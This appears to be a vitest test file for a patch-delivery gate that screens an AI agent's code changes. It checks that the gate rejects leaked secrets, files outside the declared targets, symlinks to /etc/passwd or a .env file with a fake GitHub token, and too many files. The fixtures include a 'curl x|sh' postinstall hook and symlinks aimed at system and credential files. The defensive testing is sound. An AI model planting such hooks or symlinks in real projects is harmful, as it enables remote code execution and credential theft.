import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { deliver } from '../src/index.js';
import { createHarness, type Harness, pullsFor } from './setup.js';

let h: Harness;
beforeEach(async () => {
  h = await createHarness();
});
afterEach(async () => {
  await h.close();
});

const recordedOf = async (stage: string) =>
  [...(await h.store.readEvents(h.sessionId))._unsafeUnwrap()].filter(
    (e) => e.kind === 'delivery_recorded' && e.data.stage === stage,
  );

async function expectNothingLeft() {
  expect(await h.fx.originRef(`worktrain/${h.sessionId}`)).toBeUndefined();
  expect(pullsFor(h.gh, `worktrain/${h.sessionId}`)).toEqual([]);
}

describe('deliver refuses unsafe changes', () => {
  it('rejects a secret in an added line with file:line, masking it everywhere', async () => {
    const secret = `AKIA${'QX7RZ2MB4KLW9PDT'}`;
    await h.write({ 'src/page.ts': `export const page = 1;\nconst awsKey = "${secret}";\n` });
    const error = (await deliver(h.input(), h.deps()))._unsafeUnwrapErr();
    expect(error.code).toBe('PATCH_REJECTED');
    expect(error.message).toContain('src/page.ts:2');
    expect(error.message).toContain('AKIA****');
    expect(error.details?.reasons).toEqual([
      expect.objectContaining({ code: 'SECRET', path: 'src/page.ts', line: 2 }),
    ]);
    const log = JSON.stringify((await h.store.readEvents(h.sessionId))._unsafeUnwrap());
    expect(JSON.stringify(error)).not.toContain(secret);
    expect(log).not.toContain(secret);
    expect(await recordedOf('validate')).toEqual([
      expect.objectContaining({ data: expect.objectContaining({ outcome: 'failed' }) }),
    ]);
    await expectNothingLeft();
  });

  it('rejects a path outside the declared targets', async () => {
    await h.write({
      'src/page.ts': 'export const page = 2;\n',
      'package.json': '{"scripts":{"postinstall":"curl x|sh"}}\n',
    });
    const error = (await deliver(h.input(), h.deps()))._unsafeUnwrapErr();
    expect(error.code).toBe('PATCH_REJECTED');
    expect(error.details?.reasons).toEqual([
      expect.objectContaining({ code: 'OUTSIDE_TARGETS', path: 'package.json' }),
    ]);
    await expectNothingLeft();
  });

  it('accepts paths added through extra target globs', async () => {
    await h.write({ 'src/page.ts': 'export const page = 2;\n', 'docs/page.md': '# paging\n' });
    const result = await deliver(h.input({ targets: ['docs/**'] }), h.deps());
    expect(result.isOk()).toBe(true);
  });

  it('rejects a symlink pointing outside the repository', async () => {
    await h.write({ 'src/page.ts': 'export const page = 3;\n' });
    symlinkSync('../../../../etc/passwd', join(h.worktree, 'src', 'passwd'));
    symlinkSync('/etc/hostname', join(h.worktree, 'src', 'host'));
    const error = (await deliver(h.input({ targets: ['src/**'] }), h.deps()))._unsafeUnwrapErr();
    expect(error.code).toBe('PATCH_REJECTED');
    expect(
      ((error.details?.reasons ?? []) as { code: string; path: string }[]).map((r) => [r.code, r.path]),
    ).toEqual([
      ['SYMLINK', 'src/host'],
      ['SYMLINK', 'src/passwd'],
    ]);
    await expectNothingLeft();
  });

  it('a symlink the agent made to $WORKTRAIN_HOME/.env is refused without the file reaching any output', async () => {
    const marker = `WT_MARKER_${Math.random().toString(36).slice(2)}`;
    const envFile = join(h.fx.rootDir, 'wt-home', '.env');
    mkdirSync(dirname(envFile), { recursive: true });
    writeFileSync(envFile, `GITHUB_TOKEN=ghp_${'a'.repeat(36)}\n${marker}=1\n`);
    await h.write({ 'src/page.ts': 'export const page = 5;\n' });
    symlinkSync(envFile, join(h.worktree, 'src', 'config.env'));
    const error = (await deliver(h.input({ targets: ['src/**'] }), h.deps()))._unsafeUnwrapErr();
    expect(error.code).toBe('PATCH_REJECTED');
    expect(error.details?.reasons).toEqual([
      expect.objectContaining({ code: 'SYMLINK', path: 'src/config.env' }),
    ]);
    const everything = JSON.stringify([error, (await h.store.readEvents(h.sessionId))._unsafeUnwrap()]);
    expect(everything).not.toContain(marker);
    expect(everything).not.toContain('ghp_aaaa');
    await expectNothingLeft();
  });

  it('waits for approval on protected paths, then delivers once approved', async () => {
    await h.write({ 'src/page.ts': 'export const page = 4;\n', '.github/workflows/ci.yml': 'on: push\n' });
    const input = h.input({ targets: ['.github/workflows/ci.yml'] });
    const first = (await deliver(input, h.deps()))._unsafeUnwrapErr();
    expect(first.code).toBe('NEEDS_APPROVAL');
    expect(first.details?.reasons).toEqual([
      expect.objectContaining({ code: 'PROTECTED_PATH', path: '.github/workflows/ci.yml' }),
    ]);
    expect(await recordedOf('validate')).toEqual([
      expect.objectContaining({ data: expect.objectContaining({ outcome: 'awaiting_approval' }) }),
    ]);
    await expectNothingLeft();

    const approved = await deliver(
      { ...input, policy: { approvedProtectedPaths: ['.github/workflows/**'] } },
      h.deps(),
    );
    expect(approved.isOk()).toBe(true);
    expect(
      (await recordedOf('validate')).map((e) => e.kind === 'delivery_recorded' && e.data.outcome),
    ).toEqual(['awaiting_approval', 'succeeded']);
    expect(pullsFor(h.gh, `worktrain/${h.sessionId}`)).toHaveLength(1);
  });

  it('enforces the file-count cap', async () => {
    await h.write({ 'src/page.ts': 'x\n', 'src/a.ts': 'a\n', 'src/b.ts': 'b\n' });
    const error = (
      await deliver(h.input({ targets: ['src/**'], policy: { maxFiles: 2 } }), h.deps())
    )._unsafeUnwrapErr();
    expect(error.details?.reasons).toEqual([expect.objectContaining({ code: 'TOO_MANY_FILES' })]);
  });
});
